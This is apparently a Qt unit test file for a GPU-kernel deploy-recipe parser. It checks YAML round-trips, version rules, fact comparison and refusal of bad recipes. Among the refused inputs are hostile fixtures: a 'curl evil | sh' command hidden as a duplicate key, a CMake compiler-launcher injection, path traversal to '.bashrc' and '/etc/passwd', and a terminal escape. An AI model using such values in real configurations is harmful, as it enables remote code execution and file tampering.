// SPDX-License-Identifier: GPL-3.0-or-later
// SPDX-FileCopyrightText: 2026 KernelForge authors
#include "core/deploy/deployrecipe.h"

#include <QFile>
#include <QTemporaryDir>
#include <QtTest>

using namespace kf;
using namespace kf::deploy;

namespace {

DeployRecipe full()
{
    DeployRecipe r;
    r.name = QStringLiteral("gpu1 bring-up");
    r.sourceHost = QStringLiteral("alice@gpu1:22");
    r.exported = QDateTime(QDate(2026, 12, 2), QTime(3, 40), Qt::UTC);
    r.facts = { { QStringLiteral("nvcc"), QStringLiteral("13.0.88"), VersionRule::Compatible },
        { QStringLiteral("cmake"), QStringLiteral("3.31.6"), VersionRule::AtLeast },
        { QStringLiteral("torch"), QStringLiteral("2.9.0+cu130"), VersionRule::Exact },
        { QStringLiteral("os"), QStringLiteral("Debian GNU/Linux 12 (bookworm)"), VersionRule::Any } };
    PatchSection p;
    p.set = QStringLiteral("builtin:sgl-kernel-sm120-cuda13");
    p.root = QStringLiteral("~/sgl-kernel");
    p.decisions = { { QStringLiteral("cmake-policy-guards"), QStringLiteral("CMakeLists.txt"), true, {} },
        { QStringLiteral("fa3-option"), QStringLiteral("CMakeLists.txt"), true,
            { { 2, QStringLiteral("0123456789abcdef") } } },
        { QStringLiteral("cccl-include"), QStringLiteral("CMakeLists.txt"), false, {} } };
    r.patches = p;
    BuildSection b;
    b.profile.name = QStringLiteral("sgl-kernel (pip)");
    b.profile.workingDirectory = QStringLiteral("~/sglang/sgl-kernel");
    b.profile.command = QStringLiteral("python3 -m pip install --no-build-isolation -v . -Cbuild-dir=build");
    b.profile.cmakeArgs = { QStringLiteral("-DENABLE_BELOW_SM90=OFF"), QStringLiteral("-DSGL_KERNEL_ENABLE_FA3=OFF") };
    b.profile.maxJobs = 2;
    b.profile.nvccThreads = 1;
    b.profile.nvccThreadsDefine = QStringLiteral("SGL_KERNEL_COMPILE_THREADS");
    b.profile.buildDir = QStringLiteral("build");
    b.envNames = { QStringLiteral("CUDA_HOME"), QStringLiteral("HF_TOKEN") };
    r.build = b;
    VerifyExpectation v;
    v.importOk = true;
    v.fa3 = false;
    v.libraries
        = { { QStringLiteral("common_ops"), QString(), { QStringLiteral("sm_90a"), QStringLiteral("sm_120a") } } };
    r.verify = v;
    ServerLaunchProfile s;
    s.modelPath = QStringLiteral("Qwen/Qwen3.5-397B-A17B-NVFP4");
    s.tp = 8;
    s.port = 30001;
    s.extraArgs = { QStringLiteral("--mem-fraction-static"), QStringLiteral("0.85") };
    r.server = s;
    return r;
}

} // namespace

class TestDeployRecipe : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void yamlRoundTrip()
    {
        const DeployRecipe r = full();
        const QByteArray yaml = serializeDeployRecipe(r);
        QVERIFY(yaml.contains("kernelforge_recipe: 1"));
        QVERIFY(yaml.contains("env: [CUDA_HOME, HF_TOKEN]"));
        const auto back = parseDeployRecipe(yaml, QStringLiteral("r.yaml"));
        QVERIFY2(back, qPrintable(back.error()));
        QCOMPARE(back->name, r.name);
        QCOMPARE(back->sourceHost, r.sourceHost);
        QCOMPARE(back->exported, r.exported);
        QCOMPARE(back->facts, r.facts);
        QCOMPARE(*back->patches, *r.patches);
        QCOMPARE(*back->build, *r.build);
        QCOMPARE(*back->verify, *r.verify);
        QCOMPARE(back->server->command(), r.server->command());
        QCOMPARE(back->server->port, quint16(30001));
        QVERIFY(!back->promote);
        // The same text again: nothing is lost or added.
        QCOMPARE(serializeDeployRecipe(back.value()), yaml);
        // A build without the memory gate stays without it when replayed.
        QVERIFY(!yaml.contains("memory_gate"));
        DeployRecipe ungated = r;
        ungated.build->profile.memoryGate = false;
        const QByteArray off = serializeDeployRecipe(ungated);
        QVERIFY(off.contains("memory_gate: false"));
        QVERIFY(!parseDeployRecipe(off, QStringLiteral("r.yaml"))->build->profile.memoryGate);
    }

    // A promoted build: the artifact by name and hash, its JIT caches, beside the profile.
    void promoteRoundTrip()
    {
        DeployRecipe r = full();
        PromoteSection p;
        p.from = QStringLiteral("lab-a");
        p.kind = QStringLiteral("files");
        p.file = QStringLiteral("build-20261205-files.tar");
        p.sha256 = QByteArray(64, 'a');
        p.size = 5000000000LL; // a size over 2^31 stays
        p.cachesFile = QStringLiteral("jit-caches.tar");
        p.cachesSha256 = QByteArray(64, 'b');
        r.promote = p;
        const QByteArray yaml = serializeDeployRecipe(r);
        const auto back = parseDeployRecipe(yaml, QStringLiteral("r.yaml"));
        QVERIFY2(back, qPrintable(back.error()));
        QCOMPARE(*back->promote, p);
        QCOMPARE(serializeDeployRecipe(back.value()), yaml);
    }

    void sectionsAreOptional()
    {
        const auto r = parseDeployRecipe("kernelforge_recipe: 1\n", QStringLiteral("min.yaml"));
        QVERIFY2(r, qPrintable(r.error()));
        QVERIFY(r->facts.isEmpty());
        QVERIFY(!r->patches && !r->build && !r->verify && !r->server);
        // A rule left out is the fact's default.
        const auto d = parseDeployRecipe("kernelforge_recipe: 1\nfacts:\n  - {name: cmake, version: 3.31.6}\n", {});
        QVERIFY(d->facts.first().rule == VersionRule::AtLeast);
    }

    void badRecipesAreRefusedWithTheKey_data()
    {
        QTest::addColumn<QByteArray>("yaml");
        QTest::addColumn<QString>("error");
        QTest::newRow("not a recipe") << QByteArray("name: sgl-kernel-sm120\npatches: []\n")
                                      << QStringLiteral("kernelforge_recipe: missing");
        QTest::newRow("newer schema") << QByteArray("kernelforge_recipe: 2\n")
                                      << QStringLiteral("schema version 2; this KernelForge reads version 1");
        QTest::newRow("env values") << QByteArray(
            "kernelforge_recipe: 1\nbuild:\n  command: make\n  env: {HF_TOKEN: hf_x}\n")
                                    << QStringLiteral("build.env: names only");
        QTest::newRow("bad env name") << QByteArray("kernelforge_recipe: 1\nbuild:\n  command: make\n  env: [A-B]\n")
                                      << QStringLiteral("'A-B' is not an environment variable name");
        QTest::newRow("bad rule") << QByteArray(
            "kernelforge_recipe: 1\nfacts:\n  - {name: nvcc, version: 13.0, rule: '>'}\n")
                                  << QStringLiteral("facts[0].rule: '>' is not one of");
        QTest::newRow("bad memory_gate") << QByteArray(
            "kernelforge_recipe: 1\nbuild:\n  command: make\n  memory_gate: sometimes\n")
                                         << QStringLiteral("build.memory_gate: must be true or false, not 'sometimes'");
        QTest::newRow("no command") << QByteArray("kernelforge_recipe: 1\nbuild:\n  name: x\n")
                                    << QStringLiteral("build: needs a command");
        QTest::newRow("bad port") << QByteArray("kernelforge_recipe: 1\nserver:\n  model_path: m\n  port: 70000\n")
                                  << QStringLiteral("server.port: 70000 is not a port");
        QTest::newRow("bad tp") << QByteArray("kernelforge_recipe: 1\nserver:\n  model_path: m\n  tp: eight\n")
                                << QStringLiteral("server.tp: must be a whole number");
        QTest::newRow("patches without root") << QByteArray("kernelforge_recipe: 1\npatches:\n  set: builtin:x\n")
                                              << QStringLiteral("patches: needs a set and a root");
        QTest::newRow("section not a map")
            << QByteArray("kernelforge_recipe: 1\nbuild: [make]\n") << QStringLiteral("build: must be a mapping");
        QTest::newRow("broken yaml") << QByteArray("kernelforge_recipe: 1\nfacts: [\n")
                                     << QStringLiteral("invalid YAML");
        const QByteArray build("kernelforge_recipe: 1\nbuild:\n  name: x\n  command: make\n");
        const QByteArray sha(64, 'c');
        QTest::newRow("promote without build")
            << QByteArray("kernelforge_recipe: 1\npromote: {from: a, kind: files, file: x.tar, sha256: " + sha + "}\n")
            << QStringLiteral("promote: needs the build section");
        QTest::newRow("promote file with a path")
            << QByteArray(build + "promote: {from: a, kind: files, file: ../../.bashrc, sha256: " + sha + "}\n")
            << QStringLiteral("promote.file: must be a plain file name");
        QTest::newRow("promote short hash")
            << QByteArray(build + "promote: {from: a, kind: wheel, file: x.whl, sha256: abc}\n")
            << QStringLiteral("promote.sha256: must be 64 lowercase hex digits");
        QTest::newRow("promote source with an escape")
            << QByteArray(build + "promote: {from: \"a\\e]0;x\\a\", kind: files, file: x.tar, sha256: " + sha + "}\n")
            << QStringLiteral("promote.from: needs the source host's name");
        QTest::newRow("promote unknown kind")
            << QByteArray(build + "promote: {from: a, kind: rpm, file: x.rpm, sha256: " + sha + "}\n")
            << QStringLiteral("promote.kind: files or wheel");
        QTest::newRow("promote caches path")
            << QByteArray(build + "promote: {from: a, kind: files, file: x.tar, sha256: " + sha
                   + ", caches: {file: /etc/passwd, sha256: " + sha + "}}\n")
            << QStringLiteral("promote.caches.file: must be a plain file name");
        QTest::newRow("bad verify") << QByteArray("kernelforge_recipe: 1\nverify:\n  fa3: maybe\n")
                                    << QStringLiteral("verify.fa3: present or absent");
        // The build is checked as build-profiles.yaml checks a profile (checkBuildProfile).
        QTest::newRow("build without a name") << QByteArray("kernelforge_recipe: 1\nbuild:\n  command: make\n")
                                              << QStringLiteral("build.name: 'name' is required");
        QTest::newRow("max_jobs out of range")
            << QByteArray("kernelforge_recipe: 1\nbuild:\n  name: x\n  command: make\n  max_jobs: 99999\n")
            << QStringLiteral("build.max_jobs: max_jobs must be a whole number from 1 to 4096");
        QTest::newRow("define with an option")
            << QByteArray("kernelforge_recipe: 1\nbuild:\n  name: x\n  command: make\n  nvcc_threads: 2\n"
                          "  nvcc_threads_define: \"X -DCMAKE_CXX_COMPILER_LAUNCHER=/tmp/evil\"\n")
            << QStringLiteral("build.nvcc_threads_define: nvcc_threads_define must be "
                              "a CMake variable name");
        // A second command that a reviewer's YAML tool shows and yaml-cpp would not run (or the
        // other way round): refused.
        QTest::newRow("a key twice") << QByteArray(
            "kernelforge_recipe: 1\nbuild:\n  name: x\n  command: pip install -e .\n  command: curl evil | sh\n")
                                     << QStringLiteral("r.yaml:5: command: duplicate key (first at line 4)");
    }

    void recipeFilesAreBounded()
    {
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("big.yaml"));
        QFile f(path);
        QVERIFY(f.open(QIODevice::WriteOnly));
        QVERIFY(f.write("kernelforge_recipe: 1\nname: big\n#" + QByteArray(kMaxRecipeBytes, 'x') + '\n') > 0);
        f.close();
        const auto big = readDeployRecipe(path);
        QVERIFY(!big);
        QVERIFY2(big.error().contains(QStringLiteral("larger than 1048576 bytes")), qPrintable(big.error()));
        QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
        QVERIFY(f.write("kernelforge_recipe: 1\nname: small\n") > 0);
        f.close();
        const auto small = readDeployRecipe(path);
        QVERIFY2(small, qPrintable(small.error()));
        QCOMPARE(small->name, QStringLiteral("small"));
        QVERIFY(!readDeployRecipe(dir.filePath(QStringLiteral("missing.yaml"))));
    }

    void badRecipesAreRefusedWithTheKey()
    {
        QFETCH(QByteArray, yaml);
        QFETCH(QString, error);
        const auto r = parseDeployRecipe(yaml, QStringLiteral("r.yaml"));
        QVERIFY(!r);
        QVERIFY2(r.error().startsWith(QStringLiteral("r.yaml:")), qPrintable(r.error()));
        QVERIFY2(r.error().contains(error), qPrintable(r.error()));
    }

    void versionRules()
    {
        QVERIFY(satisfies(QStringLiteral("13.0.88"), QStringLiteral("13.0.88"), VersionRule::Exact));
        QVERIFY(!satisfies(QStringLiteral("13.0.89"), QStringLiteral("13.0.88"), VersionRule::Exact));
        QVERIFY(satisfies(QStringLiteral("3.31.6"), QStringLiteral("3.25.1"), VersionRule::AtLeast));
        QVERIFY(!satisfies(QStringLiteral("3.22.1"), QStringLiteral("3.25.1"), VersionRule::AtLeast));
        QVERIFY(satisfies(QStringLiteral("13.0.90"), QStringLiteral("13.0.88"), VersionRule::Compatible));
        QVERIFY(!satisfies(QStringLiteral("13.1.0"), QStringLiteral("13.0.88"), VersionRule::Compatible));
        QVERIFY(!satisfies(QStringLiteral("13.0.80"), QStringLiteral("13.0.88"), VersionRule::Compatible));
        QVERIFY(!satisfies(QStringLiteral("12.8.93"), QStringLiteral("13.0.88"), VersionRule::Compatible));
        QVERIFY(satisfies(QString(), QStringLiteral("1"), VersionRule::Any));
        QVERIFY(!satisfies(QString(), QStringLiteral("1"), VersionRule::AtLeast));
        QVERIFY(parseVersionRule(QStringLiteral("~=")) == VersionRule::Compatible);
        QVERIFY(!parseVersionRule(QStringLiteral("=")));
        QVERIFY(defaultRule(QStringLiteral("driver")) == VersionRule::AtLeast);
        QVERIFY(defaultRule(QStringLiteral("nvcc")) == VersionRule::Compatible);
        QVERIFY(defaultRule(QStringLiteral("torch")) == VersionRule::Exact);
        QVERIFY(defaultRule(QStringLiteral("kernel")) == VersionRule::Any);
    }

    void factsDifferencesFirst()
    {
        const QJsonObject target { { QStringLiteral("nvcc"), QStringLiteral("13.0.88") },
            { QStringLiteral("cmake"), QStringLiteral("3.22.1") },
            { QStringLiteral("os"), QStringLiteral("Ubuntu 24.04") } };
        const QList<FactComparison> c = compareFacts(full().facts, target);
        QCOMPARE(c.size(), 4);
        // Failures first (cmake too old, torch missing), then allowed differences (os), then the same (nvcc).
        QCOMPARE(c[0].expected.name, QStringLiteral("cmake"));
        QVERIFY(!c[0].ok);
        QVERIFY2(c[0].text.contains(QStringLiteral("cmake 3.22.1 on the target, recipe >= 3.31.6: not satisfied")),
            qPrintable(c[0].text));
        QCOMPARE(c[1].expected.name, QStringLiteral("torch"));
        QVERIFY(!c[1].ok);
        QVERIFY2(c[1].text.contains(QStringLiteral("missing on the target")), qPrintable(c[1].text));
        QCOMPARE(c[2].expected.name, QStringLiteral("os"));
        QVERIFY(c[2].ok && c[2].differs);
        QCOMPARE(c[3].expected.name, QStringLiteral("nvcc"));
        QVERIFY(c[3].ok && !c[3].differs);
    }

    void verificationExpectation()
    {
        timeline::VerificationResult got;
        got.ok = true;
        got.importOk = true;
        got.fa3 = false;
        got.libraries = { { QStringLiteral("common_ops.cpython-311-x86_64-linux-gnu.so"), QStringLiteral("build"),
            { QStringLiteral("compute_90a"), QStringLiteral("sm_120a"), QStringLiteral("sm_90a") } } };
        const VerifyExpectation want = full().verify.value();
        QVERIFY(compareVerification(want, got).isEmpty()); // the ABI tag does not matter
        got.libraries.first().targets = { QStringLiteral("sm_90a") };
        got.fa3 = true;
        const QStringList problems = compareVerification(want, got);
        QCOMPARE(problems.size(), 2);
        QVERIFY2(problems[0].contains(QStringLiteral("FA3 (flash_ops) present on the target, absent in the recipe")),
            qPrintable(problems[0]));
        QVERIFY2(problems[1].contains(QStringLiteral("common_ops lacks sm_120a")), qPrintable(problems[1]));
        got.libraries.clear();
        QVERIFY(compareVerification(want, got).last().contains(QStringLiteral("missing on the target")));
        // What a passing verification expects of the next host.
        timeline::VerificationResult passed;
        passed.importOk = true;
        passed.libraries
            = { { QStringLiteral("common_ops.abi3.so"), QStringLiteral("build"), { QStringLiteral("sm_90a") } },
                  { QStringLiteral("helper.so"), QStringLiteral("build"), {} } };
        const VerifyExpectation x = expectationFrom(passed);
        QCOMPARE(x.libraries.size(), 1);
        QCOMPARE(x.libraries.first().name, QStringLiteral("common_ops"));
        QVERIFY(!x.fa3);
    }
};

QTEST_GUILESS_MAIN(TestDeployRecipe)
#include "tst_deployrecipe.moc"
